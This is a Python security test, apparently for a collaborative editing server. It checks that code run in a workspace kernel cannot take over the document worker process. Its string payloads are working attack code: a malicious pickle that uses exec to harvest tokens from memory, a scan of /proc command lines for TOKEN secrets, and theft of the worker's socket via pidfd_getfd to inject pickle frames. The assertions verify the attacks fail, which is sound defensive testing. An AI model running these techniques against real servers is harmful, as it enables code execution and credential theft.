"""Code in a workspace takes the place of the process that reads and writes documents, to get into the server's own.

That process belongs to the same user, and is hidden only once it runs: for a moment at each start others can take what
it has open. An Editor can bring such moments about, for they can end the process.
"""

from __future__ import annotations

import logging

import pytest

from attacks.inside import in_kernel
from attacks.own_token import own_token
from revocation.holding import Place, editing
from support.demo import Demo, until

pytestmark = [pytest.mark.hub, pytest.mark.usefixtures("confined")]

_log = logging.getLogger(__name__)

FILE = "taken over.txt"
MARK = "executed"

_HOSTILE = f"""
import os, pathlib, pickle, struct, time
work = pathlib.Path.home() / "work"
mark = work / {MARK!r}
CODE = '''
import gc, os, pathlib, re
texts = (text for thing in gc.get_objects() if isinstance(thing, dict) for text in list(thing.values()))
tokens = [text for text in texts if isinstance(text, str) and re.fullmatch("[0-9a-f]{{32}}", text)]
pathlib.Path(%r).write_text(f"{{os.getpid()}} {{tokens}}")
''' % str(mark)
class Hostile:
    def __reduce__(self):
        return exec, (CODE,)
evil = pickle.dumps(Hostile())
front = lambda size: struct.pack(">4sQIB", b"cote", 1, size, 0)
FRAMES = {{
    "a pickle with two lengths": struct.pack(">QQ", len(evil), 0) + evil,
    "a pickle in a frame": front(len(evil)) + evil,
    "garbage": os.urandom(4096),
    "a huge length": front(2**32 - 1) + b"[" * 65536,
}}
"""

#: In the kernel itself, it does what it is to do in the server.
_CONTROL = f"""{_HOSTILE}
pickle.loads(evil)
found = mark.read_text().split()[0] == str(os.getpid())
mark.unlink()
"""

_ATTACK = f"""{_HOSTILE}
import ctypes, signal, socket
libc = ctypes.CDLL(None, use_errno=True)
PIDFD_GETFD = 438
file = work / {FILE!r}
found = {{"sent": [], "refused": [], "secrets": []}}

def workers():
    '''The processes by their ids, and the numbers of their sockets.'''
    seen = {{}}
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                words = open(f"/proc/{{name}}/cmdline").read().split(chr(0))
            except OSError:
                continue
            if any(word.startswith("coterie.server.rooms.worker") for word in words):
                found["secrets"] += [word for word in words if "TOKEN" in word.upper()]
                seen[int(name)] = int(next(word for word in reversed(words) if word))
    return seen

def take(pid, number):
    '''The end of the socket, or nothing where the process could not be looked into.'''
    try:
        process = os.pidfd_open(pid)
    except OSError:
        return None
    try:
        end = libc.syscall(PIDFD_GETFD, process, number, 0)
        return None if end == -1 else socket.socket(fileno=end)
    finally:
        os.close(process)

deadline = time.monotonic() + 25
left = dict(FRAMES)
kept = []
while left and time.monotonic() < deadline:
    old = workers()
    for pid in old:
        os.kill(pid, signal.SIGKILL)
    what = next(iter(left))
    give_up_at = time.monotonic() + 5
    touched = 0
    while time.monotonic() < give_up_at:
        if time.monotonic() > touched + 0.5:
            touched = time.monotonic()
            os.utime(file)
        new = {{pid: number for pid, number in workers().items() if pid not in old}}
        if new:
            pid, number = new.popitem()
            end = take(pid, number)
            if end is None:
                found["refused"].append(what)
            else:
                end.setblocking(False)
                try:
                    end.send(left.pop(what))
                    found["sent"].append(what)
                except OSError:
                    pass
                kept.append(end)  # so that nobody sees it close
            break
"""


async def test_nothing_is_run_in_the_server_and_the_document_goes_on(demo: Demo, place: Place) -> None:
    token = await own_token(demo, place.url)
    demo.put(place.url, FILE, "before\n")
    path = demo.work(place.url) / FILE
    assert await in_kernel(demo, place, _CONTROL)
    async with editing(demo, "alice", place, FILE) as alice:
        found = await in_kernel(demo, place, _ATTACK, within=60)
        alice.type("typed after it, ")

        async def is_saved() -> bool:
            return path.read_text() == "typed after it, before\n"

        await until(is_saved, within=40)

    _log.info("sent as the worker: %s; hidden in time before: %s", found["sent"], found["refused"])
    # It did come between the two, or could not because the process was hidden already.
    assert set(found["sent"]) | set(found["refused"])
    assert [] == found["secrets"]
    assert not (path.parent / MARK).exists()
    assert token == await own_token(demo, place.url)
